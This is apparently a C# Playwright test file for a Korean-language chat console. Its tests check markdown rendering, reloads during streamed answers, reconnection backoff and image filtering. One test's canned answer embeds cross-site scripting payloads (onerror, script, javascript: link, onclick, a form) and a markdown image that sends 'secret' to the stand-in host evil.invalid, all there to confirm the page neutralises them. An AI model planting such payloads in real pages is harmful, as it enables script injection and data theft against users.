using System.Collections.Concurrent;
using System.Diagnostics;
using System.Text.Json.Nodes;
using Microsoft.Playwright;
using OpsFlow.Samples.ModelServer;

namespace OpsFlow.Console.Tests;

/// <summary>The chat page: typing Korean, answers with formatting, reloads and bad connections.</summary>
[Collection(ConsoleFixture.Name)]
public sealed partial class ChatPageTests(ConsoleFixture fixture) : IAsyncLifetime
{
    private const string Answer = """
        ## 순서
        1. **내용물**을 비우고
        2. `라벨`을 떼요

        | 품목 | 값 |
        |---|---|
        | 소파 | 5,000원 |

        <img src="x" onerror="window.hacked = 1"><script>window.hacked = 2</script>
        [여기](javascript:window.hacked=3) ![그림](http://evil.invalid/?q=secret) [출처](https://example.com/a)
        <a href="#/servers" onclick="window.hacked = 4">서버</a> <form action="http://evil.invalid"><input name="x"></form>
        """;

    private static readonly string s_long = string.Join(' ', Enumerable.Range(1, 40).Select(i => $"w{i}"));

    private readonly TempFolder _data = new();
    private ModelServerHost _model = null!;
    private AppProcess _app = null!;

    public async Task InitializeAsync()
    {
        if (Counterparts.Chromium is null)
        {
            return;
        }

        _model = await ModelServerHost.StartAsync(new()
        {
            Rules =
            [
                new()
                {
                    Use = "classify", Contains = "You decide what a message asks for",
                    Texts = ["""{"action":"route","intents":["general"],"confidence":0.9}"""],
                },
                new() { Use = "grade", Contains = "You grade an answer", Texts = ["none"] },
                new() { Use = "long", Contains = "길게", Texts = [s_long], PieceMs = 150 },
                new() { Use = "format", Contains = "꾸며줘", Texts = [Answer] },
                new() { Use = "answer", Texts = ["반가워요"] },
            ],
        });
        _app = await AppProcess.StartAsync(_data.Path, new Dictionary<string, string>
        {
            ["OPSFLOW_LLM_URL"] = $"{_model.Endpoint}", ["OPSFLOW_LLM_MODEL"] = "scripted-1",
            ["OPSFLOW_API_RATE"] = "0", ["OPSFLOW_TEMPORAL_PORT"] = "0",
        });
    }

    public async Task DisposeAsync()
    {
        if (_app is not null)
        {
            await _app.DisposeAsync();
            await _model.DisposeAsync();
        }

        _data.Dispose();
    }

    [RequiresFact(Counterparts.Browser)]
    public async Task Answer_WithMarkdown_IsFormattedAndHarmless()
    {
        var (page, _) = await OpenAsync();
        var asked = new ConcurrentQueue<string>();
        page.Request += (_, r) => asked.Enqueue(r.Url);
        await SayAsync(page, "꾸며줘");
        var answer = page.Locator("li.answered .md");
        await answer.Locator("table td").First.WaitForAsync();
        await Assertions.Expect(page.Locator("form button.primary")).ToBeVisibleAsync();

        await Assertions.Expect(answer.Locator("ol li")).ToHaveCountAsync(2);
        await Assertions.Expect(answer.Locator("strong")).ToHaveTextAsync(["순서", "내용물"]);
        await Assertions.Expect(answer.Locator("code")).ToHaveTextAsync("라벨");
        await Assertions.Expect(answer.Locator("img, script, form, input, h2")).ToHaveCountAsync(0);
        var links = await answer.Locator("a").EvaluateAllAsync<string[]>(
            "all => all.map(a => `${a.getAttribute('href')} ${a.rel} ${a.target}`)");
        Assert.Equal(
            ["http://evil.invalid/?q=secret", "https://example.com/a"], links.Select(l => l.Split(' ')[0]));
        Assert.All(links, l => Assert.EndsWith(" noopener noreferrer nofollow _blank", l));
        // What was HTML is text.
        await Assertions.Expect(answer).ToContainTextAsync("<script>");
        Assert.Equal("undefined", await page.EvaluateAsync<string>("typeof window.hacked"));
        Assert.DoesNotContain(asked, url => url.Contains("evil", StringComparison.Ordinal));
        if (fixture.Axe is { } axe)
        {
            Assert.Equal("", await PageChecks.AxeAsync(page, axe));
        }

        await page.SetViewportSizeAsync(375, 700);
        Assert.True(await PageChecks.FitsAsync(page));
        await page.Context.CloseAsync();
    }

    [RequiresFact(Counterparts.Browser)]
    public async Task Reload_WhileTheSecondAnswerIsWritten_GrowsInItsOwnMessage()
    {
        var (page, _) = await OpenAsync();
        await SayAsync(page, "안녕하세요, 자기소개 해주세요");
        await Assertions.Expect(page.Locator("li.answered .md")).ToHaveTextAsync("반가워요");
        await Assertions.Expect(page.Locator("form button.primary")).ToBeVisibleAsync();
        await SayAsync(page, "길게 설명해줘");
        await Assertions.Expect(page.Locator("li.answered .md").Nth(1)).ToContainTextAsync("w1 w2");

        await page.ReloadAsync();

        await Assertions.Expect(page.Locator("li.answered .md").Nth(1)).ToContainTextAsync("w1 w2");
        await Assertions.Expect(page.Locator("li.answered .md").First).ToHaveTextAsync("반가워요");
        await Assertions.Expect(page.Locator("li.answered .md").Nth(1)).ToHaveTextAsync(s_long);
        await Assertions.Expect(page.Locator("li.answered")).ToHaveCountAsync(2);
        await Assertions.Expect(page.Locator("li.answered .md").First).ToHaveTextAsync("반가워요");
        await page.Context.CloseAsync();
    }

    [RequiresFact(Counterparts.Browser)]
    public async Task Follow_ServerThatClosesEachStreamAtOnce_BacksOffAndShowsTheAnswerOnce()
    {
        var (page, _) = await OpenAsync();
        await WithoutWorkerAsync(page);
        var clock = Stopwatch.StartNew();
        var asked = new ConcurrentQueue<TimeSpan>();
        page.Request += (_, r) =>
        {
            if (r.Url.Contains("/chat/jobs/", StringComparison.Ordinal))
            {
                asked.Enqueue(clock.Elapsed);
            }
        };
        await page.RouteAsync("**/api/v1/chat/jobs/*/events?*", route => route.FulfillAsync(new()
        {
            ContentType = "text/event-stream", Body = "event: heartbeat\ndata: {}\n\n",
        }));
        await SayAsync(page, "길게 설명해줘");

        // Without its events, by what the record says.
        await Assertions.Expect(page.Locator("li.answered .md")).ToHaveTextAsync(s_long);
        await Assertions.Expect(page.Locator("form button.primary")).ToBeVisibleAsync();
        foreach (var at in asked)
        {
            Assert.InRange(asked.Count(a => a >= at && a < at + TimeSpan.FromSeconds(10)), 1, 4);
        }

        await page.Context.CloseAsync();
    }

    [RequiresFact(Counterparts.Browser)]
    public async Task Messages_WithPictures_ShowThoseOfThisServerAlone()
    {
        var (page, _) = await OpenAsync();
        await SayAsync(page, "안녕하세요, 자기소개 해주세요");
        await Assertions.Expect(page.Locator("li.answered .md")).ToHaveTextAsync("반가워요");
        await Assertions.Expect(page.Locator("form button.primary")).ToBeVisibleAsync();
        await page.RouteAsync("**/api/v1/chat/*/messages?*", async route =>
        {
            var response = await route.FetchAsync();
            var body = JsonNode.Parse(await response.TextAsync())!;
            foreach (var message in body["items"]!.AsArray())
            {
                message!["images"] = new JsonArray("/api/v1/objects/a.jpg", "http://evil.invalid/b.jpg");
            }

            await route.FulfillAsync(new() { Response = response, Body = body.ToJsonString() });
        });

        await page.ReloadAsync();

        foreach (var who in new[] { "said", "answered" })
        {
            var image = page.Locator($"li.{who} img");
            await Assertions.Expect(image).ToHaveCountAsync(1);
            await Assertions.Expect(image).ToHaveAttributeAsync("src", "/api/v1/objects/a.jpg");
            await Assertions.Expect(image).ToHaveAttributeAsync("alt", "그림");
        }

        await page.Context.CloseAsync();
    }

    [RequiresFact(Counterparts.Browser)]
    public async Task Follow_PictureThatIsMade_IsShownAtOnce()
    {
        var (page, _) = await OpenAsync();
        await WithoutWorkerAsync(page);
        await page.RouteAsync("**/api/v1/chat/jobs/*/events?*", route => route.FulfillAsync(new()
        {
            ContentType = "text/event-stream",
            Body = "id: 1\nevent: image\ndata: {\"url\":\"/api/v1/objects/a.jpg\"}\n\n"
                + "id: 2\nevent: image\ndata: {\"url\":\"http://evil.invalid/b.jpg\"}\n\n",
        }));
        await SayAsync(page, "길게 설명해줘");

        await Assertions.Expect(page.Locator("li.answered img")).ToHaveCountAsync(1);
        await Assertions.Expect(page.Locator("li.answered img"))
            .ToHaveAttributeAsync("src", "/api/v1/objects/a.jpg");
        await page.Context.CloseAsync();
    }

    private async Task<(IPage Page, ICDPSession Keys)> OpenAsync()
    {
        var page = await fixture.OpenAsync("/chat", locale: "ko-KR", url: _app.Http.BaseAddress);
        await page.Locator("#chat-text").FocusAsync();
        return (page, await page.Context.NewCDPSessionAsync(page));
    }

    // What a worker asks for cannot be answered in the server's place; without one a tab asks by itself.
    private static async Task WithoutWorkerAsync(IPage page)
    {
        await page.AddInitScriptAsync("delete window.SharedWorker;");
        await page.ReloadAsync();
        await page.Locator("#chat-text").FocusAsync();
    }

    private static async Task SayAsync(IPage page, string text)
    {
        await page.Locator("#chat-text").FillAsync(text);
        await page.Locator("#chat-text").PressAsync("Enter");
    }
}
